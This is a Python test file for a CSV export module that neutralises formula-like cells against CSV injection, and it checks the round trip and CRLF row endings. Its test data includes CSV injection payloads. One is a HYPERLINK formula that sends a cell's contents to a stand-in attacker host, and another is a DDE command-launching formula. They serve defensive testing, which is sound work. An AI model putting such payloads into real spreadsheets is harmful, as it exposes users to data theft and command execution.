"""negviz.language.text.csv_cells: CSV exports with formula-like text cells neutralised (OWASP CSV injection)
and read back."""

import io

import pandas as pd

from negviz.language.text.csv_cells import csv_bytes, neutralise_cell, unneutralise_cell

PAYLOADS = [
    '=HYPERLINK("https://evil.example/?d="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
]


def test_csv_bytes_neutralises_formula_cells_and_keeps_numbers():
    frame = pd.DataFrame(
        {
            "label": PAYLOADS,
            "delta": [-0.5, -1.25, 0.0, 1.0, -3.0, 2.0, -7.5],
            "count": [-1, 2, 3, 4, 5, 6, 7],
            "plain": ["a", "b=c", "", "x-y", "'q", "ok", "z"],
        }
    )
    text = csv_bytes(frame).decode("utf-8")
    back = pd.read_csv(io.StringIO(text), keep_default_na=False)
    assert back["label"].tolist() == ["'" + p for p in PAYLOADS]
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in back["label"])
    assert back["delta"].tolist() == [-0.5, -1.25, 0.0, 1.0, -3.0, 2.0, -7.5]  # still numbers, unquoted
    assert back["count"].tolist() == [-1, 2, 3, 4, 5, 6, 7]
    assert back["plain"].tolist() == ["a", "b=c", "", "x-y", "'q", "ok", "z"]
    assert ",-0.5," in text and "'-0.5" not in text


def test_neutralise_and_unneutralise_round_trip_only_formula_cells():
    assert neutralise_cell("=1+1") == "'=1+1" and unneutralise_cell("'=1+1") == "=1+1"
    assert neutralise_cell("a=b") == "a=b" and neutralise_cell(-3) == -3 and neutralise_cell(None) is None
    # A quote the user typed before plain text is theirs: reading back leaves it.
    assert unneutralise_cell("'quoted") == "'quoted"
    assert [unneutralise_cell(neutralise_cell(p)) for p in PAYLOADS] == PAYLOADS


def test_csv_bytes_ends_rows_in_crlf_and_neutralises_column_names():
    frame = pd.DataFrame({"=name": ["a\rb"], "n": [1]})
    # The bare "\r" inside a cell is quoted, so the row is not split when read back.
    assert csv_bytes(frame) == b'\'=name,n\r\n"a\rb",1\r\n'
